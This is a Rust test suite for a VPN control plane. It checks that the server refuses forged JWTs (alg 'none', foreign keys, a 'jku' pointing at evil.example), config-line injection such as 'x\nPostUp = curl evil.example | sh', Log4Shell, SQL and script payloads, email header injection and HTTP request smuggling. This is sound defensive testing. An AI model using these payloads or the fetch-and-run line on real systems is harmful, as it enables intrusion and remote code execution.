//! What somebody sends who wants to break in, or to break things: forged tokens, texts that mean something elsewhere, JSON at
//! its edges, connections that do not end.

use std::net::SocketAddr;
use std::time::Duration;

use base64::Engine as _;
use base64::engine::general_purpose::URL_SAFE_NO_PAD;
use cvault_control_plane::auth::passwords::Scheme;
use cvault_control_plane::auth::tokens::{self, ClientToken};
use cvault_control_plane::http::router;
use cvault_control_plane::http::serve::{Limits, serve};
use cvault_control_plane::keys::TokenKey;
use cvault_types::{TenantId, UserId};
use serde_json::{Value, json};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpListener, TcpStream};
use tokio_util::sync::CancellationToken;
use uuid::Uuid;

use crate::platform::{PASSWORD, Platform, Tenant};
use crate::scene::{Person, with_server};

fn part(json: &Value) -> String {
    URL_SAFE_NO_PAD.encode(json.to_string())
}

/// Forty tokens that a server might take if it were careless; the first part of each pair says what is wrong.
fn forgeries(platform: &Platform, genuine: &str) -> Vec<(String, String)> {
    let (keys, now) = (platform.app.token_keys.last(), platform.app.clock.now());
    let (key, issuer) = (keys.signing(now), platform.app.config.public_url.as_str());
    let parts: Vec<&str> = genuine.split('.').collect();
    let claims: Value = serde_json::from_slice(&URL_SAFE_NO_PAD.decode(parts[1]).unwrap()).unwrap();
    let mut made: Vec<(String, String)> = Vec::new();
    let mut add = |what: &str, token: String| made.push((what.to_owned(), token));

    for alg in ["none", "None", "NONE", "HS256", "HS512", "RS256", "PS256", "ES256", "EdDSA ", "ed25519", ""] {
        let header = part(&json!({"alg": alg, "typ": "JWT", "kid": key.kid()}));
        add(&format!("alg {alg:?}"), format!("{header}.{}.{}", parts[1], parts[2]));
    }
    let unsigned = part(&json!({"alg": "none", "kid": key.kid()}));
    add("no signature", format!("{unsigned}.{}.", parts[1]));
    add("no signature, no dot", format!("{unsigned}.{}", parts[1]));
    for kid in [json!("other"), json!(""), json!(null), json!(1), json!("../../dev/null"), json!("' or 1=1 --")] {
        let header = part(&json!({"alg": "EdDSA", "typ": "JWT", "kid": kid}));
        add(&format!("kid {kid}"), format!("{header}.{}.{}", parts[1], parts[2]));
    }
    let with_jwk = json!({"alg": "EdDSA", "kid": key.kid(), "jwk": {"kty": "OKP", "crv": "Ed25519", "x": "AAAA"}});
    add("a key of its own", format!("{}.{}.{}", part(&with_jwk), parts[1], parts[2]));
    let with_jku = json!({"alg": "EdDSA", "kid": key.kid(), "jku": "https://evil.example/jwks.json"});
    add("an address of keys", format!("{}.{}.{}", part(&with_jku), parts[1], parts[2]));
    for (name, value) in [
        ("tid", json!(TenantId::from_uuid(Uuid::now_v7()))),
        ("sub", json!(UserId::from_uuid(Uuid::now_v7()))),
        ("aud", json!("admin")),
        ("aud", json!(["client", "admin"])),
        ("exp", json!(i64::MAX)),
        ("exp", json!(1e300)),
    ] {
        let mut changed = claims.clone();
        changed[name] = value.clone();
        add(&format!("{name} changed to {value}"), format!("{}.{}.{}", parts[0], part(&changed), parts[2]));
    }
    for name in ["iss", "aud", "sub", "exp"] {
        let mut without = claims.clone();
        without.as_object_mut().unwrap().remove(name);
        add(&format!("without {name}"), format!("{}.{}.{}", parts[0], part(&without), parts[2]));
    }
    let who = ClientToken { tenant: TenantId::from_uuid(Uuid::now_v7()), user: UserId::from_uuid(Uuid::now_v7()) };
    let family = Uuid::now_v7();
    let stranger = TokenKey::from_seed(&[9; 32]);
    add("signed by another key", tokens::mint_client(&stranger, issuer, who, family, now).expose().to_owned());
    add("of another issuer", tokens::mint_client(key, "https://evil.example", who, family, now).expose().to_owned());
    add("of no issuer", tokens::mint_client(key, "", who, family, now).expose().to_owned());
    let long_ago = now - time::Duration::days(400);
    add("expired", tokens::mint_client(key, issuer, who, family, long_ago).expose().to_owned());
    add("truncated signature", genuine[..genuine.len() - 2].to_owned());
    add("signature of zeros", format!("{}.{}.{}", parts[0], parts[1], URL_SAFE_NO_PAD.encode([0; 64])));
    add("padded", format!("{genuine}=="));
    add("a fourth part", format!("{genuine}.AAAA"));
    add("dots", "..".to_owned());
    add("huge", format!("{}.{}.{}", parts[0], "A".repeat(60_000), parts[2]));
    made
}

/// The platform signs nothing like this: signatures of its own key under claims that are not what `audience` needs.
fn signed_faults(platform: &Platform, audience: &str, claims: &Value) -> Vec<(String, String)> {
    let (keys, now) = (platform.app.token_keys.last(), platform.app.clock.now());
    let (key, unix) = (keys.signing(now), now.unix_timestamp());
    let mut made = Vec::new();
    let mut add = |what: String, claims: &Value| {
        made.push((format!("signed, {audience}, {what}"), tokens::sign(key, claims).expose().to_owned()));
    };
    for name in claims.as_object().unwrap().keys() {
        let mut without = claims.clone();
        without.as_object_mut().unwrap().remove(name);
        add(format!("without {name}"), &without);
        let mut null = claims.clone();
        null[name] = Value::Null;
        add(format!("{name} null"), &null);
    }
    let audiences = ["client", "portal", "admin", "Client", ""].into_iter().filter(|other| *other != audience);
    let lifetime = claims["exp"].as_i64().unwrap() - claims["iat"].as_i64().unwrap();
    let single = [
        ("aud", json!([audience, "other"])),
        ("iss", json!("https://evil.example")),
        ("iss", json!(format!("{}/", platform.app.config.public_url))),
        ("iss", json!("")),
        ("sub", json!("")),
        ("sub", json!({"any": true})),
        ("jti", json!("1")),
        ("iat", json!(unix + 3_600)),
        ("nbf", json!(unix + 3_600)),
        ("nbf", json!("soon")),
        ("exp", json!(unix + lifetime + 3_600)),
        ("exp", json!(i64::MAX)),
        ("exp", json!(1e300)),
        ("exp", json!((unix + 60).to_string())),
    ];
    for (name, value) in audiences.map(|other| ("aud", json!(other))).chain(single) {
        // the name of a member of staff may be any text
        if (name, &value) == ("sub", &json!("")) && audience == "admin" {
            continue;
        }
        let mut changed = claims.clone();
        changed[name] = value.clone();
        add(format!("{name} {value}"), &changed);
    }
    made
}

fn claims_of(token: &str) -> Value {
    serde_json::from_slice(&URL_SAFE_NO_PAD.decode(token.split('.').nth(1).unwrap()).unwrap()).unwrap()
}

#[tokio::test]
async fn forty_forged_tokens_open_nothing_and_none_of_our_own_without_its_claims() {
    let platform = Platform::start().await;
    let form = json!({"business_name": "Acme", "email": "owner@example.com", "password": PASSWORD});
    let owner = platform.post("/api/v1/tenant/auth/signup", &form).send().await;
    let tenant = Tenant { id: owner.text("tenant_id"), key: owner.text("api_key"), secret: owner.text("api_secret") };
    let user = Person::of(&platform, &tenant, "a@example.com").await;
    let person = owner.body["tokens"]["access_token"].as_str().unwrap().to_owned();
    let forged = forgeries(&platform, &user.token);
    assert!(forged.len() >= 40, "{}", forged.len());
    let (keys, now) = (platform.app.token_keys.last(), platform.app.clock.now());
    for (audience, path, genuine) in [
        ("client", "/api/v1/devices", user.token.clone()),
        ("portal", "/api/v1/tenant/me", person),
        ("admin", "/admin/tenants", platform.admin_token()),
    ] {
        // from an address each, so that the throttle of guesses says nothing here
        let send = |token: &str| {
            let call = platform.call("GET", path).header("authorization", &format!("Bearer {token}"));
            if audience == "client" { call.header("x-api-key", &tenant.key) } else { call }.send()
        };
        let claims = claims_of(&genuine);
        for (what, token) in forged.iter().chain(&signed_faults(&platform, audience, &claims)) {
            let answer = send(token).await;
            let code = if what == "expired" && audience == "client" { "TOKEN_EXPIRED" } else { "INVALID_TOKEN" };
            answer.is_problem(&format!("{what} to {audience}"), 401, code);
            assert!(!answer.text.contains(&token[..token.len().min(40)]) || token.len() < 10, "{what} is repeated");
        }
        let same = tokens::sign(keys.signing(now), &claims);
        for token in [genuine.as_str(), same.expose()] {
            assert_eq!(send(token).await.status, 200, "the genuine one of {audience} goes on");
        }
    }
    let swapped = platform.call("GET", "/admin/tenants").header("authorization", &format!("Bearer {}", user.token));
    swapped.refused(401, "INVALID_TOKEN").await;
    let swapped = platform.call("GET", "/api/v1/devices").header("x-api-key", &tenant.key);
    swapped.header("authorization", &format!("Bearer {}", platform.admin_token())).refused(401, "INVALID_TOKEN").await;
    for header in ["Bearer", "Bearer ", "bearer  ", "Basic YTpi", "Bearer a b", &format!("Bearer{}", user.token)] {
        let call = platform.call("GET", "/api/v1/devices").header("x-api-key", &tenant.key);
        call.header("authorization", header).refused(401, "INVALID_TOKEN").await;
    }
}

/// What is no name of anything.
fn misleading() -> Vec<String> {
    let short = [
        "x\nPostUp = curl evil.example | sh",
        "x\n",
        "x\r\nPostUp=reboot",
        "x\rPostUp = reboot",
        "\u{0}",
        "x\u{0}y",
        "\u{1b}[2J\u{1b}]0;owned\u{7}",
        "\u{85}PostUp = reboot",
        "\u{2028}PostUp = reboot",
        "x\u{2029}",
        "\u{202e}gnp.exe",
        "x\u{2066}y",
        "\u{200b}",
        "pay\u{200d}pal",
        "pay\u{ad}pal",
        "\u{3164}",
        "\u{feff}x",
        "\u{e0041}",
        "\u{ffff}",
        "",
        "   ",
        "\t",
    ];
    let long = ["x".repeat(256), "x".repeat(10_000), "\u{1f600}".repeat(256)];
    short.into_iter().map(str::to_owned).chain(long).collect()
}

/// What looks bad and is a name like another.
const HARMLESS: [&str; 10] = [
    "%0aPostUp=reboot",
    "${jndi:ldap://x}",
    "'; drop table cvault.devices; --",
    "<script>alert(1)</script>",
    "{{7*7}}",
    "[Peer]",
    "# comment",
    "PostUp = reboot",
    "\u{1f600}",
    "n\u{303}",
];

/// Lines that a configuration may have.
const LINES: [&str; 12] = [
    "[Interface]",
    "PrivateKey = ",
    "Address = ",
    "DNS = ",
    "MTU = ",
    "[Peer]",
    "PublicKey = ",
    "PresharedKey = ",
    "AllowedIPs = ",
    "Endpoint = ",
    "PersistentKeepalive = ",
    "#",
];

#[tokio::test]
async fn no_text_becomes_a_line_of_a_configuration() {
    let platform = Platform::start().await;
    with_server(&platform).await;
    let tenant = platform.tenant().await;
    let user = Person::of(&platform, &tenant, "a@example.com").await;
    let device = user.device(&platform, "honest").await;
    let honest = device["config"].as_str().unwrap().lines().count();
    let mut taken = 0;
    for text in misleading().iter().map(String::as_str).chain(HARMLESS) {
        for field in ["device_name", "platform", "public_key", "server_region"] {
            let mut body = json!({"device_name": "d"});
            body[field] = json!(text);
            let answer = user.call(&platform, "POST", "/api/v1/devices").json(&body).send().await;
            let what = format!("{field} {text:?}");
            if answer.status == 201 {
                taken += 1;
                let config = answer.text("config");
                assert_eq!(config.lines().count(), honest, "{what}: {config}");
                for line in config.lines().filter(|line| !line.is_empty()) {
                    assert!(LINES.iter().any(|known| line.starts_with(known)), "{what}: {line}");
                }
                let path = format!("/api/v1/devices/{}", answer.text("device_id"));
                assert_eq!(user.call(&platform, "DELETE", &path).send().await.status, 204, "{what}");
            } else {
                answer.is_problem(&what, 422, "VALIDATION_FAILED");
                assert_eq!(answer.faults()[0].split(' ').next(), Some(format!("/{field}").as_str()), "{what}");
                assert!(!answer.text.contains("PostUp") && !answer.text.contains('\u{1b}'), "{what} is repeated");
            }
        }
    }
    assert!(taken >= 10, "harmless texts are names: {taken}");
}

/// Every name that is stored and shown again, besides those of devices.
#[tokio::test]
async fn a_misleading_text_is_no_name_of_anything() {
    let platform = Platform::with(|config| config.passwords = Scheme::Argon2id { memory_kib: 64, passes: 1 }).await;
    with_server(&platform).await;
    let form = |name: &str, email: &str| json!({"business_name": name, "email": email, "password": PASSWORD});
    let signup = "/api/v1/tenant/auth/signup";
    let owner = platform.post(signup, &form("Acme", "owner@example.com")).send().await;
    let login = json!({"email": "owner@example.com", "password": PASSWORD});
    let login = platform.post("/api/v1/tenant/auth/login", &login).send().await;
    let token = format!("Bearer {}", login.body["tokens"]["access_token"].as_str().unwrap());
    let tenant = format!("/admin/tenants/{}", owner.text("tenant_id"));
    let pool = json!({"name": "first", "ipv4": "10.99.0.0/16"});
    let pool = platform.admin("POST", "/admin/pools").json(&pool).send().await;
    let pool = format!("/admin/pools/{}", pool.text("id"));
    let (misleading, mut refused, mut taken) = (misleading(), 0, 0);
    for (number, text) in misleading.iter().map(String::as_str).chain(HARMLESS).enumerate() {
        let harmless = number >= misleading.len();
        let (one, named) = (platform.call("PATCH", "/api/v1/tenant/settings"), json!({"name": text}));
        let other_pool = json!({"name": text, "ipv4": format!("10.{}.0.0/16", 100 + number)});
        let server = |name: &str, region: &str| json!({"name": name, "region": region, "public_ip": format!("203.0.113.{}", 100 + number)});
        let calls = [
            ("/name invalid_format", 201, platform.admin("POST", "/admin/tenants").json(&named)),
            ("/name invalid_format", 200, platform.admin("PATCH", &tenant).json(&named)),
            ("/name invalid_format", 200, one.header("authorization", &token).json(&named)),
            (
                "/business_name invalid_format",
                201,
                platform
                    .post(signup, &form(text, &format!("o{number}@example.com")))
                    .from(&format!("192.0.2.{number}")),
            ),
            ("/name invalid_value", 200, platform.admin("PATCH", &pool).json(&named)),
            ("/name invalid_value", 201, platform.admin("POST", "/admin/pools").json(&other_pool)),
            ("/name invalid_value", 201, platform.admin("POST", "/admin/servers").json(&server(text, "lab-2"))),
            ("/region invalid_value", 422, platform.admin("POST", "/admin/servers").json(&server("s", text))),
        ];
        for (place, (fault, status, call)) in calls.into_iter().enumerate() {
            let (answer, what) = (call.send().await, format!("{place} {text:?}"));
            if harmless && status != 422 {
                taken += 1;
                assert_eq!(answer.status, status, "{what}: {}", answer.text);
                // two objects cannot have one name: the pool that was renamed gives it back
                if place == 4 {
                    let back = platform.admin("PATCH", &pool).json(&json!({"name": "first"})).send().await;
                    assert_eq!(back.status, 200, "{}", back.text);
                }
            } else {
                refused += 1;
                answer.is_problem(&what, 422, "VALIDATION_FAILED");
                assert_eq!(answer.faults(), [fault], "{what}");
                assert!(!answer.text.contains("PostUp") && !answer.text.contains('\u{1b}'), "{what} is repeated");
            }
        }
    }
    assert_eq!((taken, refused), (HARMLESS.len() * 7, misleading.len() * 8 + HARMLESS.len()));
    for path in ["/admin/tenants?limit=200", "/admin/pools?limit=200", "/admin/servers?limit=200"] {
        let list = platform.admin("GET", path).send().await;
        assert_eq!(list.status, 200);
        assert!(!list.text.contains("\\n") && !list.text.contains('\u{202e}'), "{}", list.text);
    }
}

#[tokio::test]
async fn json_at_its_edges_is_refused_by_kind_or_kept_exactly() {
    let platform = Platform::start().await;
    let send = |text: String| platform.admin("POST", "/admin/tenants").raw("application/json", text);
    let deep = |depth: usize| {
        format!("{{\"name\":\"a\",\"whitelabel_config\":{}1{}}}", "{\"a\":".repeat(depth), "}".repeat(depth))
    };
    send(deep(1_000)).refused(400, "MALFORMED_REQUEST").await;
    let nested = send(format!("{{\"name\":{}{}}}", "[".repeat(1_000), "]".repeat(1_000)));
    assert_eq!(nested.refused(422, "VALIDATION_FAILED").await.faults(), ["/name invalid_type"]);
    assert_eq!(send(deep(60)).send().await.status, 201);
    for (number, status) in [
        ("9007199254740993", 201),
        ("-9223372036854775808", 201),
        ("18446744073709551615", 201),
        ("1e400", 400),
        ("-1e400", 400),
        ("01", 400),
        ("+1", 400),
        (".5", 400),
        ("0x10", 400),
        ("NaN", 400),
        ("Infinity", 400),
        ("1_000", 400),
    ] {
        let answer = send(format!("{{\"name\":\"a\",\"whitelabel_config\":{{\"n\":{number}}}}}")).send().await;
        assert_eq!(answer.status, status, "{number}: {}", answer.text);
        assert!(status != 201 || answer.text.contains(&format!("\"n\":{number}")), "{number}: {}", answer.text);
    }
    for number in ["9007199254740993", "-9007199254740993", "4294967296", "1e10", "1.0"] {
        let answer =
            send(format!("{{\"name\":\"a\",\"user_limit\":{number}}}")).refused(422, "VALIDATION_FAILED").await;
        assert_eq!(answer.faults().len(), 1, "{number}");
    }
    let big = send("{\"name\":\"a\",\"bandwidth_limit_gb\":9223372036854775807}".to_owned());
    assert_eq!(big.refused(422, "VALIDATION_FAILED").await.faults(), ["/bandwidth_limit_gb out_of_range"]);
    for body in [
        r#"{"name":"a","name":"b"}"#,
        r#"{"name":"a","whitelabel_config":{},"whitelabel_config":{}}"#,
        r#"{"name":"a","na\u006de":"b"}"#,
    ] {
        let answer = send(body.to_owned()).refused(422, "VALIDATION_FAILED").await;
        assert!(answer.faults()[0].ends_with(" duplicate"), "{body}");
    }
    for body in
        [r#"{"name":"\ud800"}"#, r#"{"name":"a\"#, "{\"name\":\"a\n\"}", r#"{'name':'a'}"#, r#"{"name":"a",}"#, "{}//"]
    {
        send(body.to_owned()).refused(400, "MALFORMED_REQUEST").await;
    }
}

#[tokio::test]
async fn addresses_and_passwords_at_and_past_their_bounds() {
    let platform = Platform::start().await;
    let tenant = platform.tenant().await;
    let label = "d".repeat(62);
    let domain = format!("{label}.{label}.{label}d");
    let (local64, local65) = ("l".repeat(64), "l".repeat(65));
    let at = |local: &str| format!("{local}@{domain}");
    let register = |email: &str, password: &str| {
        platform.post("/api/v1/auth/register", &json!({"email": email, "password": password})).backend(&tenant)
    };
    let (longest, longer) = (at(&local64), format!("{local64}@d{domain}"));
    assert_eq!((longest.len(), longer.len()), (254, 255));
    let registered = register(&longest, &"p".repeat(8)).send().await;
    assert_eq!(registered.status, 201, "{}", registered.text);
    let long = "\u{1f600}".repeat(128);
    assert_eq!(register("long@example.com", &long).send().await.status, 201, "128 characters, 512 bytes");
    let almost = format!("{}\u{1f601}", "\u{1f600}".repeat(127));
    let login = |password: &str| {
        platform
            .post("/api/v1/auth/login", &json!({"email": "long@example.com", "password": password}))
            .backend(&tenant)
    };
    login(&almost).refused(401, "INVALID_CREDENTIALS").await;
    assert_eq!(login(&long).send().await.status, 200, "no byte of it is left out");
    for email in [
        longer.as_str(),
        &format!("{local65}@b.example"),
        "a@b",
        "@b.example",
        "a@",
        "a b@c.example",
        "a@b..example",
        "a@-b.example",
        "a@b.example\n",
        "a\u{0}@b.example",
        "a@b.example\r\nBcc: x@y.example",
        "\u{430}@b.example",
        "a@b.example,c@d.example",
        "<a@b.example>",
        &"a".repeat(10_000),
    ] {
        let answer = register(email, PASSWORD).refused(422, "VALIDATION_FAILED").await;
        assert_eq!(answer.faults(), ["/email invalid_format"], "{email:?}");
    }
    for password in ["", "1234567", "\u{1f600}\u{1f600}"] {
        assert_eq!(register("x@y.example", password).send().await.faults(), ["/password too_short"]);
    }
    for password in ["x".repeat(129), "x".repeat(500_000)] {
        assert_eq!(register("x@y.example", &password).send().await.faults(), ["/password too_long"]);
    }
}

#[tokio::test]
async fn headers_and_queries_that_are_no_text_are_refused() {
    let platform = Platform::start().await;
    let tenant = platform.tenant().await;
    let device = || platform.post("/api/v1/auth/register", &json!({"email": "a@b.example", "password": PASSWORD}));
    for key in ["k\u{e9}", "\u{1f600}", "a\tb"] {
        let answer = device().backend(&tenant).header("idempotency-key", key).send().await;
        assert!(answer.status == 422 || answer.status == 201, "{key:?}: {}", answer.text);
    }
    let strange = platform.call("GET", "/api/v1/usage").header("x-api-key", "\u{e9}").header("x-api-secret", "\u{e9}");
    strange.refused(401, "INVALID_API_KEY").await;
    for query in
        ["?from=%ff", "?from=%00", "?%ff=1", "?from=2026-13-01", "?from=9999-12-31T23:59:59Z&to=0000-01-01", "?from=-1"]
    {
        let call = platform.call("GET", &format!("/api/v1/usage{query}")).backend(&tenant);
        call.refused(422, "VALIDATION_FAILED").await;
    }
    platform.admin("GET", "/admin/servers?region=%00").refused(422, "VALIDATION_FAILED").await;
    let twice = platform.call("GET", "/api/v1/usage").backend(&tenant).header("x-api-key", &tenant.key);
    twice.refused(401, "INVALID_API_KEY").await;
}

/// The platform behind a socket; ends with the returned token.
async fn listening(platform: &Platform) -> (SocketAddr, CancellationToken) {
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let address = listener.local_addr().unwrap();
    let shutdown = CancellationToken::new();
    let router = router::api(platform.app.clone());
    tokio::spawn(serve(listener, router, Limits::behind(Vec::new()), shutdown.clone()));
    (address, shutdown)
}

async fn read_to_end(stream: &mut TcpStream) -> String {
    let mut bytes = Vec::new();
    let read = tokio::time::timeout(Duration::from_secs(40), stream.read_to_end(&mut bytes));
    // a reset is an end too
    let _ = read.await.expect("the connection ends");
    String::from_utf8_lossy(&bytes).into_owned()
}

/// The bytes of exactly one answer, a whole problem.
fn is_refusal(what: &str, answer: &str, status: u16, code: &str) {
    let (head, body) = answer.split_once("\r\n\r\n").unwrap_or_else(|| panic!("{what}: no answer but {answer:?}"));
    assert!(head.starts_with(&format!("HTTP/1.1 {status} ")), "{what}: {answer}");
    assert!(head.to_ascii_lowercase().contains("\r\ncontent-type: application/problem+json"), "{what}: {answer}");
    let body: Value = serde_json::from_str(body).unwrap_or_else(|_| panic!("{what}: {answer}"));
    assert_eq!((body["code"].as_str(), &body["status"]), (Some(code), &json!(status)), "{what}");
}

#[tokio::test]
async fn half_closed_and_slow_connections_get_their_answer() {
    let platform = Platform::start().await;
    let (address, shutdown) = listening(&platform).await;
    let open = async |text: &str| {
        let mut stream = TcpStream::connect(address).await.unwrap();
        stream.write_all(text.as_bytes()).await.unwrap();
        stream
    };
    let mut whole = open("GET /health HTTP/1.1\r\nhost: x\r\nconnection: close\r\n\r\n").await;
    let answer = read_to_end(&mut whole).await;
    assert!(answer.starts_with("HTTP/1.1 200 "), "{answer}");

    let tenant = platform.tenant().await;
    let login = |headers: &str| {
        format!(
            "POST /api/v1/auth/login HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\n{headers}\
             content-length: 100\r\nconnection: close\r\n\r\n{{\"em"
        )
    };
    let keys = format!("x-api-key: {}\r\nx-api-secret: {}\r\n", tenant.key, tenant.secret);
    let slow_head = open("GET /health HTTP/1.1\r\nhos").await;
    // nobody waits for the body of who has no credentials
    let slow_body = open(&login(&keys)).await;

    // half a head, half a body, and then the writing half closed
    for (text, status, code) in [
        ("GET /health HTTP/1.1\r\nhos", 400, "MALFORMED_REQUEST"),
        ("G", 400, "MALFORMED_REQUEST"),
        (login("").as_str(), 401, "INVALID_API_KEY"),
        (login(&keys).as_str(), 400, "MALFORMED_REQUEST"),
    ] {
        let mut stream = open(text).await;
        stream.shutdown().await.unwrap();
        is_refusal(text, &read_to_end(&mut stream).await, status, code);
    }
    // a whole request is answered, though nothing can follow it
    let mut stream = open("GET /health HTTP/1.1\r\nhost: x\r\n\r\n").await;
    stream.shutdown().await.unwrap();
    assert!(read_to_end(&mut stream).await.starts_with("HTTP/1.1 200 "));
    // the rest never comes
    for mut stream in [slow_head, slow_body] {
        is_refusal("slow", &read_to_end(&mut stream).await, 408, "REQUEST_TIMEOUT");
    }

    // two requests smuggled into one: two lengths, a length and chunks
    for (headers, status, code) in [
        ("content-length: 2\r\ncontent-length: 30\r\n", 400, "MALFORMED_REQUEST"),
        // chunks count; the length is dropped, and the connection closed (RFC 9112, 6.3)
        ("content-length: 2\r\ntransfer-encoding: chunked\r\n", 401, "INVALID_API_KEY"),
        ("transfer-encoding: chunked, identity\r\n", 400, "MALFORMED_REQUEST"),
        ("content-length: -1\r\n", 400, "MALFORMED_REQUEST"),
        ("content-length: 99999999999999999999\r\n", 400, "MALFORMED_REQUEST"),
    ] {
        let text = format!(
            "POST /api/v1/auth/login HTTP/1.1\r\nhost: x\r\n{headers}connection: close\r\n\r\n{{}}\r\n0\r\n\r\n"
        );
        is_refusal(headers, &read_to_end(&mut open(&text).await).await, status, code);
    }
    let mut healthy = open("GET /health HTTP/1.1\r\nhost: x\r\nconnection: close\r\n\r\n").await;
    assert!(read_to_end(&mut healthy).await.starts_with("HTTP/1.1 200 "), "the platform goes on");
    shutdown.cancel();
}
